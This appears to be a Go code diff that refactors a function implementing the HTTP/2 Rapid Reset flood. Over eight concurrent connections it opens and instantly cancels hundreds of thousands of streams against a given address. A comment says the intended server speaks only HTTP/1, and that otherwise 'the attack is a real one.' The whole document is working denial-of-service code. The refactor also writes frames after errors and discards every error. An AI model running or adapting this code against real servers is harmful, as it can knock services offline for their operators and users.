@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"errors"
 	"io"
 	"net"
 
@@ -10,8 +11,8 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// rapidReset opens and resets streams of HTTP/2 as fast as it can. The server speaks HTTP/1 alone, so each connection has to end at its
-// preface; should that change, the attack is a real one.
+// rapidReset opens and resets streams of HTTP/2 as fast as it can. The server speaks HTTP/1 alone, so each connection ends at its preface;
+// should that change, the attack is a real one.
 func rapidReset(ctx context.Context, addr string) error {
 	var block bytes.Buffer
 	headers := hpack.NewEncoder(&block)
@@ -23,14 +24,10 @@ func rapidReset(ctx context.Context, addr string) error {
 	return swarm(ctx, 8, addr, func(conn *net.TCPConn) error {
 		_, err := io.WriteString(conn, http2.ClientPreface)
 		framer := http2.NewFramer(conn, conn)
-		if err == nil {
-			err = framer.WriteSettings()
-		}
+		err = errors.Join(err, framer.WriteSettings())
 		for stream := uint32(1); err == nil && stream < 1<<20; stream += 2 {
-			err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
-			if err == nil {
-				err = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
-			}
+			request := http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}
+			err = errors.Join(framer.WriteHeaders(request), framer.WriteRSTStream(stream, http2.ErrCodeCancel))
 		}
 		return nil
 	})
